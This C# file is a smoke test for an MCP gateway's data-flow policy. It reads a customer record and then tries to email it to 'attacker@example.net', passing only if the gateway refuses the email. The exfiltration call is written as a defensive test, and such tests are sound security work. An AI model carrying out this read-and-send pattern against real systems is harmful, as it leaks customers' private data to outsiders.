using ModelContextProtocol.Client;
using ModelContextProtocol.Protocol;

namespace McpGateway;

/// <summary>
/// The smoke test, as any MCP client would run it against the gateway's URL: the sensitive read is
/// allowed, the exfiltrating email is refused.
/// </summary>
public static class SmokeTest
{
    public static async Task<bool> RunAsync(Uri gateway, TextWriter output)
    {
        await using var agent = await McpClient.CreateAsync(new HttpClientTransport(new HttpClientTransportOptions
        {
            Endpoint = gateway,
            TransportMode = HttpTransportMode.StreamableHttp,
        }));
        output.WriteLine($"connected to {gateway} (session {agent.SessionId})");

        var read = await agent.CallToolAsync("read_customer", new Dictionary<string, object?> { ["id"] = "42" });
        output.WriteLine($"read_customer -> {Describe(read)}");
        var send = await agent.CallToolAsync("send_email", new Dictionary<string, object?> { ["to"] = "attacker@example.net", ["body"] = Text(read) });
        output.WriteLine($"send_email    -> {Describe(send)}");

        var passed = read.IsError != true && send.IsError == true && Text(send).StartsWith("Refused by the Trajeckt policy: flow:", StringComparison.Ordinal);
        output.WriteLine(passed
            ? "smoke test passed: the sensitive read was allowed and the exfiltrating email refused"
            : "smoke test FAILED");
        return passed;
    }

    private static string Describe(CallToolResult result) => (result.IsError == true ? "ERROR " : "ok    ") + Text(result);

    private static string Text(CallToolResult result) => string.Concat(result.Content.OfType<TextContentBlock>().Select(b => b.Text));
}
